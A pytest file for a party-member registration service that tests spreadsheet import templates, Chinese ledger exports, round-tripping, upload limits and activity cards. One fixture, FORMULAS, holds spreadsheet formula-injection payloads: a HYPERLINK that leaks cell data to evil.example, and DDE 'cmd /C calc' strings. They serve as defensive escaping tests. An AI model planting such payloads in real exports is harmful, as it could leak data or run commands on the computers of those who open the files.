"""Spreadsheets people use (issue 18): the import template, Chinese headers and values on import,
the ledger export in Chinese (names beside codes, China time, a title row, formula-safe cells,
a BOM), the round trip export → import, and uploads refused before their rows are read."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import delete, select

from services.registration import imports
from services.registration.app import create_app
from services.registration.models import (
    Checkin,
    Inflow,
    Member,
    MemberNameGram,
    Outflow,
    RelationshipMove,
    audit_log,
)
from shared import clock
from tests.support.builders import id_number, member_body, org_tree
from tests.support.tokens import ADMIN, bearer

CHINESE = [
    "姓名",
    "性别",
    "出生日期",
    "公民身份号码",
    "手机号码",
    "党员类别",
    "所在支部代码",
    "入党日期",
    "党费缴至",
]
ENGLISH = [
    "name",
    "gender",
    "birth_date",
    "id_number",
    "phone",
    "status",
    "branch_code",
    "joined_on",
    "dues_paid_through",
]
IMPORTED = ("name", "gender", "birth_date", "id_number", "phone", "status", "branch_code", "joined_on", "dues_paid_through")  # fmt: skip


@pytest.fixture(scope="module")
def client(settings_for, migrated):
    migrated("registration")
    return create_app(settings_for("registration")).test_client()


@pytest.fixture(scope="module")
def database(migrated):
    return migrated("registration")


def upload(client, branch: str, content: bytes, name: str, dry_run: bool = False, headers=ADMIN):
    return client.post(
        f"/api/v1/imports/members?branch={branch}&dry_run={'true' if dry_run else 'false'}",
        data={"file": (io.BytesIO(content), name)},
        headers=headers,
        content_type="multipart/form-data",
    )


def xlsx_bytes(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_bytes(rows: list[list[object]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode()


def members_of(database, branch: str) -> dict[str, Member]:
    with database.reader() as session:
        found = session.scalars(select(Member).where(Member.branch_code == branch)).all()
        session.expunge_all()
    return {member.id_number: member for member in found}


def template(client, headers=ADMIN):
    return client.get("/api/v1/imports/members/template.xlsx", headers=headers)


def new_member(client, branch: str, **overrides) -> dict:
    response = client.post("/api/v1/members", json=member_body(branch, **overrides), headers=ADMIN)
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def outflow_body(**overrides) -> dict:
    return {
        "destination_region": "330602",
        "destination_address": "浙江省绍兴市越城区灵芝街道",
        "occupation": "建筑工人",
        "employer": "绍兴某建设公司",
        "departed_on": (date.today() - timedelta(days=3)).isoformat(),
        "expected_return_on": (date.today() + timedelta(days=300)).isoformat(),
        "reason": "务工",
        "contact_phone": "13912345678",
        **overrides,
    }


def mobile_member(client, branch: str, **overrides) -> dict:
    member = new_member(client, branch, **overrides)
    response = client.post(f"/api/v1/members/{member['id']}/outflows", json=outflow_body(), headers=ADMIN)
    assert response.status_code == 201, response.get_json()
    return member


def csv_sheet(response) -> tuple[str, list[dict[str, str]]]:
    """The title line and the rows of a ledger csv, read with the csv module."""
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    reader = csv.reader(io.StringIO(text[1:]))
    title = next(reader)
    header = next(reader)
    return title[0], [dict(zip(header, row, strict=True)) for row in reader]


def xlsx_sheet(response) -> tuple[str, list[dict[str, object]], object]:
    sheet = load_workbook(io.BytesIO(response.get_data())).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    return str(rows[0][0]), [dict(zip(rows[1], row, strict=True)) for row in rows[2:]], sheet


# --- the template -----------------------------------------------------------------------------


def test_the_template_has_chinese_headers_notes_text_columns_and_value_lists(client):
    response = template(client, bearer("branch_secretary", "ANY-BRANCH"))
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response.headers["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.worksheets[0]
    assert "导入模板" in sheet["A1"].value
    assert [cell.value for cell in sheet[2]] == CHINESE
    # ID numbers, phones and months stay text (Excel would turn an ID into 4.2E+17); dates are dates.
    for letter in "DEGI":
        assert sheet.column_dimensions[letter].number_format == "@", letter
    for letter in "CH":
        assert sheet.column_dimensions[letter].number_format == "yyyy-mm-dd", letter
    assert all(sheet.column_dimensions[letter].width for letter in "ABCDEFGHI")
    lists = {
        str(validation.sqref): validation.formula1
        for validation in sheet.data_validations.dataValidation
        if validation.type == "list"
    }
    assert lists == {"B3:B10002": '"男,女"', "F3:F10002": '"正式党员,预备党员"'}
    assert workbook.sheetnames[1] == "填写说明"
    notes = [row[1] for row in workbook.worksheets[1].iter_rows(values_only=True) if len(row) > 1]
    assert any("全部成功或全部不导入" in str(note) for note in notes)

    assert template(client, bearer("member", "ANY-BRANCH")).status_code == 403
    assert template(client, {}).status_code == 401


def test_a_filled_in_template_imports_chinese_headers_values_and_dates(client, database):
    codes = org_tree(client, ADMIN)
    workbook = load_workbook(io.BytesIO(template(client).get_data()))
    sheet = workbook.worksheets[0]
    born = [date(1990, 5, 17), date(1985, 11, 2), date(1979, 1, 30)]
    ids = [id_number(day) for day in born]
    # A date cell, a Chinese text date and an Excel serial number (a date cell that lost its format).
    sheet.append(
        ["张伟", "男", born[0], ids[0], "13800000001", "正式党员", None, date(2012, 7, 1), "2026-10"]
    )
    sheet.append(["王芳", "女", "1985年11月2日", ids[1], "13800000002", "预备党员", codes["branch"], "2024/6/30", "2026年9月"])  # fmt: skip
    sheet.append(["刘洋", "男", 28885, ids[2], 13800000003, "正式党员", None, "2001.7.1", date(2026, 8, 1)])
    response = upload(client, codes["branch"], xlsx_bytes(workbook), "党员信息导入模板.xlsx")
    assert response.status_code == 201, response.get_json()
    assert response.get_json() == {"rows": 3, "created": 3, "existing": 0, "errors": []}
    members = members_of(database, codes["branch"])
    assert [(members[i].name, members[i].gender, members[i].status) for i in ids] == [
        ("张伟", "male", "full"),
        ("王芳", "female", "probationary"),
        ("刘洋", "male", "full"),
    ]
    assert [members[i].birth_date for i in ids] == born
    assert [members[i].joined_on for i in ids] == [date(2012, 7, 1), date(2024, 6, 30), date(2001, 7, 1)]
    assert [members[i].dues_paid_through for i in ids] == ["2026-10", "2026-09", "2026-08"]
    assert members[ids[2]].phone == "13800000003"


def test_english_and_mixed_headers_and_values_still_import(client, database):
    codes = org_tree(client, ADMIN)
    english = member_body(codes["branch"], id_number=id_number())
    mixed = member_body(codes["branch"], id_number=id_number(), gender="female", status="probationary")
    english_csv = csv_bytes([ENGLISH, [english[name] for name in ENGLISH]])
    assert upload(client, codes["branch"], english_csv, "en.csv").status_code == 201
    # Chinese and English column names side by side, Chinese and English values, any order.
    header = [
        "gender",
        "姓名",
        "出生日期",
        "id_number",
        "手机号码",
        "status",
        "入党日期",
        "dues_paid_through",
        "备注",
    ]
    row = ["女", mixed["name"], mixed["birth_date"], mixed["id_number"], mixed["phone"], "预备党员",
           mixed["joined_on"], mixed["dues_paid_through"], "外出务工"]  # fmt: skip
    response = upload(client, codes["branch"], csv_bytes([header, row]), "mixed.csv")
    assert response.status_code == 201, response.get_json()
    members = members_of(database, codes["branch"])
    assert members[english["id_number"]].gender == "male"
    assert (members[mixed["id_number"]].gender, members[mixed["id_number"]].status) == (
        "female",
        "probationary",
    )


def test_errors_name_sheet_row_and_column_in_chinese_and_nothing_is_written(client, database):
    codes = org_tree(client, ADMIN)
    workbook = load_workbook(io.BytesIO(template(client).get_data()))
    sheet = workbook.worksheets[0]
    good = member_body(codes["branch"], id_number=id_number())
    bad = member_body(codes["branch"], id_number=id_number())
    sheet.append(["张伟", "男", good["birth_date"], good["id_number"], good["phone"], "正式党员", None, "2015-07-01", "2026-10"])  # fmt: skip
    sheet.append(["李娜", "M", bad["birth_date"], bad["id_number"], "123", "党员", None, "明年", "2026-10"])
    response = upload(client, codes["branch"], xlsx_bytes(workbook), "a.xlsx")
    assert response.status_code == 422
    errors = response.get_json()["errors"]["file"]
    # The same shape as before ({row, field, message}); row 2 is the second member, sheet row 4.
    assert {(error["row"], error["field"]) for error in errors} == {
        (2, "gender"),
        (2, "phone"),
        (2, "status"),
        (2, "joined_on"),
    }
    messages = {error["field"]: error["message"] for error in errors}
    assert messages["gender"] == "第 4 行 B 列「性别」：应填“男”或“女”"
    assert messages["status"] == "第 4 行 F 列「党员类别」：应填“正式党员”或“预备党员”"
    assert messages["phone"].startswith("第 4 行 E 列「手机号码」：")
    assert members_of(database, codes["branch"]) == {}  # all or nothing: the good row is not written

    dry = upload(client, codes["branch"], xlsx_bytes(workbook), "a.xlsx", dry_run=True).get_json()
    assert dry["valid"] == 1 and {e["message"] for e in dry["errors"]} == set(messages.values())

    unknown = upload(client, codes["branch"], csv_bytes([[*CHINESE[:8], "颜色"], ["x"] * 9]), "a.csv")
    assert unknown.status_code == 422
    message = unknown.get_json()["errors"]["files"]["file"][0]
    assert "无法识别的列" in message and "颜色" in message and "党费缴至（dues_paid_through）" in message


# --- the ledger export ------------------------------------------------------------------------


def test_the_export_is_chinese_with_names_china_time_a_title_and_widths(client):
    codes = org_tree(client, ADMIN)
    member = mobile_member(client, codes["branch"], gender="female", status="probationary")
    checkin = client.post(
        "/api/v1/checkins",
        json={"member_id": member["id"], "branch_code": codes["branch"], "kind": "self"},
        headers=bearer("member", codes["branch"], sub=member["id"]),
    )
    assert checkin.status_code == 201, checkin.get_json()
    occurred = datetime.fromisoformat(checkin.get_json()["occurred_at"])
    china_time = clock.local_now(occurred).strftime("%Y-%m-%d %H:%M")

    as_csv = client.get(f"/api/v1/ledger?org={codes['township']}&format=csv", headers=ADMIN)
    assert as_csv.get_data()[:3] == b"\xef\xbb\xbf"  # the BOM: Excel reads the csv as UTF-8
    title, rows = csv_sheet(as_csv)
    as_xlsx = client.get(f"/api/v1/ledger?org={codes['township']}&format=xlsx", headers=ADMIN)
    xlsx_title, xlsx_rows, sheet = xlsx_sheet(as_xlsx)
    assert title.startswith(f"流动党员台账（township {codes['township']}，导出于 ")
    assert xlsx_title.startswith(f"流动党员台账（township {codes['township']}，导出于 ")
    for row in (rows[0], xlsx_rows[0]):
        assert (row["性别"], row["党员类别"], row["失去联系"]) == ("女", "预备党员", "否")
        assert (row["所在支部代码"], row["所在支部"]) == (codes["branch"], f"branch {codes['branch']}")
        assert (row["流入地区划代码"], row["流入地"]) == ("330602", "浙江省绍兴市越城区")
        assert row["最近联系时间"] == china_time
        # Masked by default, as in any list: the birth year only where the ID is masked.
        assert "*" in str(row["公民身份号码"]) and str(row["出生日期"]) == member["birth_date"][:4]
    assert rows[0]["外出日期"] == outflow_body()["departed_on"]
    assert xlsx_rows[0]["外出日期"] == datetime.fromisoformat(outflow_body()["departed_on"])
    assert sheet.column_dimensions["A"].width and sheet.column_dimensions["D"].width > 15


FORMULAS = {
    "destination_address": '=HYPERLINK("http://evil.example/?leak="&A2,"详情")',
    "occupation": "-2+3+cmd|' /C calc'!A0",
    "employer": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_cells_that_look_like_formulas_are_text_in_xlsx_and_quoted_in_csv(client):
    codes = org_tree(client, ADMIN)
    member = new_member(client, codes["branch"], name="+李明")
    mine = bearer("member", codes["branch"], sub=member["id"])
    outflow = client.post(
        f"/api/v1/members/{member['id']}/outflows", json=outflow_body(**FORMULAS), headers=mine
    )
    assert outflow.status_code == 201, outflow.get_json()
    _, [row] = csv_sheet(client.get(f"/api/v1/ledger?org={codes['branch']}&format=csv", headers=ADMIN))
    _, [cells], sheet = xlsx_sheet(
        client.get(f"/api/v1/ledger?org={codes['branch']}&format=xlsx", headers=ADMIN)
    )
    header = [cell.value for cell in sheet[2]]
    written = {"姓名": "+李明", "现居住地址": FORMULAS["destination_address"], "从事职业": FORMULAS["occupation"], "工作单位": FORMULAS["employer"]}  # fmt: skip
    for column, text in written.items():
        assert row[column] == "'" + text, (column, row[column])
        cell = sheet.cell(row=3, column=header.index(column) + 1)
        assert cell.data_type == "s" and cell.value == text == cells[column], (column, cell.data_type)


def test_a_full_export_is_for_people_who_may_read_it_and_audited(client, database):
    codes = org_tree(client, ADMIN)
    member = mobile_member(client, codes["branch"])
    secretary = bearer("branch_secretary", codes["branch"], sub="sec-full-ledger")
    full = client.get(f"/api/v1/ledger?org={codes['branch']}&format=csv&masked=false", headers=secretary)
    assert full.status_code == 200
    _, [row] = csv_sheet(full)
    assert (row["公民身份号码"], row["手机号码"], row["出生日期"]) == (
        member["id_number"],
        member["phone"],
        member["birth_date"],
    )
    assert row["联系电话"] == "13912345678"
    service = bearer("service", "CN", sub="svc:transfer")
    assert (
        client.get(f"/api/v1/ledger?org={codes['branch']}&masked=false", headers=service).status_code == 403
    )
    with database.reader() as session:
        entries = session.execute(select(audit_log).where(audit_log.c.actor == "sec-full-ledger")).all()
    assert [(entry.action, entry.object_id, entry.detail) for entry in entries] == [
        ("export_ledger", codes["branch"], "full")
    ]


def forget(database, member_ids: list[str]) -> None:
    """Delete members outright (no endpoint does), so that their exported sheet can bring them back."""
    with database.transaction() as session:
        for table in (Checkin, Outflow, Inflow, RelationshipMove, MemberNameGram):
            session.execute(delete(table).where(table.member_id.in_(member_ids)))
        session.execute(delete(Member).where(Member.id.in_(member_ids)))


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_an_exported_ledger_imports_back_as_the_same_members(client, database, file_format):
    codes = org_tree(client, ADMIN)
    originals = [
        mobile_member(client, codes["branch"], name="张伟"),
        mobile_member(client, codes["branch"], name="=王芳", gender="female", status="probationary"),
        mobile_member(client, codes["branch"], name="刘洋", dues_paid_through="2026-08"),
    ]
    secretary = bearer("branch_secretary", codes["branch"])
    exported = client.get(
        f"/api/v1/ledger?org={codes['branch']}&format={file_format}&masked=false", headers=secretary
    )
    assert exported.status_code == 200
    content = exported.get_data()  # the download, read through before the members are gone
    before = {
        m.id_number: tuple(getattr(m, name) for name in IMPORTED)
        for m in members_of(database, codes["branch"]).values()
    }
    forget(database, [member["id"] for member in originals])
    assert members_of(database, codes["branch"]) == {}

    response = upload(client, codes["branch"], content, f"台账.{file_format}", headers=secretary)
    assert response.status_code == 201, response.get_json()
    assert response.get_json()["created"] == 3
    after = {
        m.id_number: tuple(getattr(m, name) for name in IMPORTED)
        for m in members_of(database, codes["branch"]).values()
    }
    assert after == before
    assert {values[0] for values in after.values()} == {"张伟", "=王芳", "刘洋"}


# --- uploads refused before their rows are read -------------------------------------------------


def refuse_reading(monkeypatch) -> list[object]:
    """Record any attempt to open a workbook or parse rows: a refusal must come before them."""
    import openpyxl

    opened: list[object] = []
    real = openpyxl.load_workbook
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: opened.append(a) or real(*a, **k))
    return opened


def test_a_larger_declared_sheet_is_refused_before_openpyxl_reads_it(client, monkeypatch):
    codes = org_tree(client, ADMIN)
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(ENGLISH)
    sheet.append(["x"] * 9)
    # A real sheet would grow to this size; one cell at the far end declares it.
    sheet.cell(row=imports.MAX_SHEET_ROWS + 1, column=1, value="x")
    opened = refuse_reading(monkeypatch)
    response = upload(client, codes["branch"], xlsx_bytes(workbook), "a.xlsx")
    assert response.status_code == 422 and "declares" in response.get_json()["errors"]["files"]["file"][0]
    assert opened == []
    # The template's title and notes rows do not count: a sheet of MAX_SHEET_ROWS rows is within bounds.
    imports._check_dimension(f'<worksheet><dimension ref="A1:I{imports.MAX_SHEET_ROWS}"/>'.encode())


def test_more_than_10000_member_rows_are_refused_and_nothing_is_written(client, database):
    codes = org_tree(client, ADMIN)
    body = member_body(codes["branch"], id_number=id_number())
    row = [body[name] for name in ENGLISH]
    content = csv_bytes([["流动党员台账"], CHINESE, *([row] * (imports.MAX_ROWS + 1))])
    response = upload(client, codes["branch"], content, "a.csv")
    assert response.status_code == 422
    assert f"at most {imports.MAX_ROWS} rows" in response.get_json()["errors"]["files"]["file"][0]
    assert members_of(database, codes["branch"]) == {}


def test_the_scope_check_comes_before_the_size_and_the_reading(client, monkeypatch):
    codes = org_tree(client, ADMIN)
    other = org_tree(client, ADMIN)
    read: list[object] = []
    monkeypatch.setattr(imports, "read_capped", lambda *args: read.append(args))
    from services.registration.api import MULTIPART_OVERHEAD

    # Over 5 MB with its multipart envelope: refused on the request's declared length, unread.
    too_big = b"x" * (imports.MAX_UPLOAD_BYTES + MULTIPART_OVERHEAD + 1024)
    stranger = bearer("branch_secretary", other["branch"])
    assert upload(client, codes["branch"], too_big, "a.csv", headers=stranger).status_code == 403
    assert upload(client, codes["branch"], too_big, "a.csv").status_code == 413
    assert read == []


# --- the activity card (checked here, built by the documents work) --------------------------------


def test_the_activity_card_is_that_of_the_open_outflow_and_409_without_one(client):
    home, away = org_tree(client, ADMIN), org_tree(client, ADMIN)
    member = new_member(client, home["branch"])
    me = bearer("member", home["branch"], sub=member["id"])
    card = f"/api/v1/members/{member['id']}/activity-card.pdf"
    assert client.get(card, headers=me).status_code == 409  # never reported out
    outflow = client.post(f"/api/v1/members/{member['id']}/outflows", json=outflow_body(), headers=me)
    assert outflow.status_code == 201, outflow.get_json()
    response = client.get(card, headers=me)
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert outflow.get_json()["activity_card_no"] in response.headers["Content-Disposition"]
    # A transfer moves the relationship: the mobility ends, and with it the card.
    moved = client.post(
        f"/api/v1/members/{member['id']}/relationship",
        json={"branch_code": away["branch"], "transfer_id": "t-card-409"},
        headers=bearer("service", "CN", sub="svc:transfer"),
    )
    assert moved.status_code == 200, moved.get_json()
    assert client.get(card, headers=me).status_code == 409
